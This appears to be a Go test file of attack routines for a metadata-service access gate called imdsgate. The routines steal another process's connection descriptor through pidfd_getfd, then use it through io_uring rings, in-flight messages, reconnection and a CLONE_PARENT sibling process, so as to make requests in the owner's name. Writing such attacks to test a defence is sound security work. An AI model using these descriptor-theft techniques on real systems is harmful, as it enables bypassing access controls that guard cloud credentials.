package main

import (
	"fmt"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/imdsgate/imdsgate/test/attacks/ask"
)

// steal takes a descriptor from another process of the same user.
func steal(args []string) (int, error) {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return -1, err
	}
	theirs, err := strconv.Atoi(args[1])
	if err != nil {
		return -1, err
	}
	p, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return -1, fmt.Errorf("open process %d: %w", pid, err)
	}
	fd, err := unix.PidfdGetfd(p, theirs, 0)
	if err != nil {
		return -1, fmt.Errorf("take descriptor %d of process %d: %w", theirs, pid, err)
	}
	return fd, nil
}

// theft asks on a stolen connection.
func theft(args []string) error {
	fd, err := steal(args)
	if err != nil {
		return err
	}
	try(fd)
	return nil
}

// theftFlight hides the stolen connection in a message meanwhile.
func theftFlight(args []string) error {
	fd, err := steal(args)
	if err != nil {
		return err
	}
	return inFlight(fd)
}

// stolen is a stolen connection that only a ring has.
func stolen(args []string) (*ring, error) {
	fd, err := steal(args)
	if err != nil {
		return nil, err
	}
	r, err := newRing(fd)
	if err != nil {
		return nil, err
	}
	return r, unix.Close(fd)
}

// theftUring asks on a stolen connection that is in no table of its own.
func theftUring(args []string) error {
	r, err := stolen(args)
	if err != nil {
		return err
	}
	ready()
	return r.exchange(ask.Mine())
}

// theftRead reads the answer to a request that the owner of the connection made.
func theftRead(args []string) error {
	r, err := stolen(args)
	if err != nil {
		return err
	}
	ready()
	ask.ReadBy(r.receive).Tell()
	return nil
}

// theftReconnect makes a connection of its own out of a stolen one, and leaves
// the owner alone with it.
func theftReconnect(args []string) error {
	r, err := stolen(args)
	if err != nil {
		return err
	}
	if err := r.disconnect(); err != nil {
		return err
	}
	if err := r.connect(); err != nil {
		return err
	}
	ready()
	return r.exchange(ask.Mine())
}

// theftSibling writes on the connection of its parent by a process that it makes the
// parent's child (CLONE_PARENT) and that ends at once, its own copy hidden in a message.
func theftSibling(args []string) error {
	fd, err := steal([]string{strconv.Itoa(unix.Getppid()), args[0]})
	if err != nil {
		return err
	}
	if inherited, err := strconv.Atoi(args[0]); err == nil && inherited != fd {
		unix.Close(inherited)
	}
	var start [2]int
	if err := unix.Pipe2(start[:], 0); err != nil {
		return err
	}
	request := ask.Mine()
	message := &unix.Msghdr{Iov: &unix.Iovec{Base: &request[0], Len: uint64(len(request))}, Iovlen: 1}
	// With MSG_MORE the kernel keeps it for 200 ms (tcp(7), TCP_CORK), by when its writer
	// has ended.
	write := ask.Call{Trap: unix.SYS_SENDMSG, A1: uintptr(fd), A2: uintptr(unsafe.Pointer(message)), A3: unix.MSG_MORE}
	if _, err := ask.Fork(unix.CLONE_PARENT, ask.ReadByte(start[0]), write); err != nil {
		return err
	}
	h, err := hide(fd)
	if err != nil {
		return err
	}
	ready()
	if _, err := unix.Write(start[1], []byte{'g'}); err != nil {
		return err
	}
	if err := h.readable(); err != nil {
		return err
	}
	if fd, err = h.back(); err != nil {
		return err
	}
	ask.Read(fd).Tell()
	return nil
}
